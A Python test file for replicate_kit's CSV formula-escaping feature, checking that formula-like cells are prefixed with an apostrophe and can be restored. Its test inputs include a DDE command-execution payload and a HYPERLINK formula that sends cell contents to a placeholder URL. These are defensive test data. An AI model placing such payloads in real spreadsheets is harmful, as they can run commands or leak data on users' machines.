"""Cells of CSV that a spreadsheet would take for formulas."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from replicate_kit.cli._cells import as_plain_text
from replicate_kit.cli._tables.tables import read_rows, write_rows

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    '=HYPERLINK("https://x?"&A1)',
    "-",
    "=",
    "@user",
    "+49 30",
    "-2+3+cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20x",
    "'=1",
    "''=1",
    "'-1",
    "-1.5.2",
    "-1e",
    "--1",
    "-inf",
)
PLAIN = (
    "-1",
    "+1",
    "-1.5",
    "-.5",
    "+2e10",
    "-1E-3",
    "1",
    "",
    "text",
    "a=b",
    "'quoted'",
    " =1",
    "https://x/=1",
    '["=1"]',
    "1-1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert as_plain_text(text) == f"'{text}"


@pytest.mark.parametrize("cell", [*PLAIN, -1, -1.5, 0, None, True])
def test_numbers_and_other_texts_stay(cell: Any) -> None:
    assert as_plain_text(cell) is cell


def undone(cell: str) -> str:
    """What docs/command-line.md says."""
    return re.sub(r"^'(?='*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20])", "", cell)


@given(
    st.one_of(
        st.sampled_from([*FORMULAS, *PLAIN]),
        st.text(alphabet="'=+-@\t\r\n1.e a", max_size=6),
        st.text(max_size=6),
    )
)
def test_it_can_be_undone(text: str) -> None:
    assert undone(as_plain_text(text)) == text


@pytest.mark.parametrize("name", ["t.csv", "t.tsv"])
def test_cells_and_names_of_columns_are_escaped_if_that_is_asked_for(name: str, tmp_path: Path) -> None:
    path, rows = tmp_path / name, [{"=a": each, "b": -1} for each in FORMULAS]
    write_rows(path, ["=a", "b"], rows)
    assert [row["=a"] for row in read_rows(path)] == list(FORMULAS)
    write_rows(path, ["=a", "b"], rows, escape_formulas=True)
    with path.open(newline="", encoding="utf-8") as file:
        header, *lines = csv.reader(file, delimiter="\t" if name.endswith("tsv") else ",")
    assert header == ["'=a", "b"]
    assert lines == [[f"'{each}", "-1"] for each in FORMULAS]


@pytest.mark.parametrize("name", ["t.jsonl", "t.parquet"])
def test_other_tables_stay_as_they_are(name: str, tmp_path: Path) -> None:
    write_rows(tmp_path / name, ["a"], [{"a": each} for each in FORMULAS], escape_formulas=True)
    assert [row["a"] for row in read_rows(tmp_path / name)] == list(FORMULAS)


def test_map_and_export_escape(invoke: Any, tmp_path: Path) -> None:
    table, out = tmp_path / "t.csv", tmp_path / "r.csv"
    write_rows(table, ["prompt", "note"], [{"prompt": "=1+1", "note": "-1"}])
    arguments = ["map", "demo/poet", table, "-i", "prompt", "--backend", "mock", "--out", out]
    arguments[4:5] = ["prompt=prompt"]
    assert invoke(*arguments, "--escape-formulas").exit_code == 0
    (row,) = read_rows(out)
    assert (row["prompt"], row["note"]) == ("'=1+1", "-1")
    assert invoke(*arguments).exit_code == 0
    (row,) = read_rows(out)
    assert row["prompt"] == "=1+1"
    journal = tmp_path / "t.journal.sqlite"
    assert invoke("journal", "export", journal, tmp_path / "j.csv", "--escape-formulas").exit_code == 0
    assert all(
        not str(cell).startswith("=") for row in read_rows(tmp_path / "j.csv") for cell in row.values()
    )
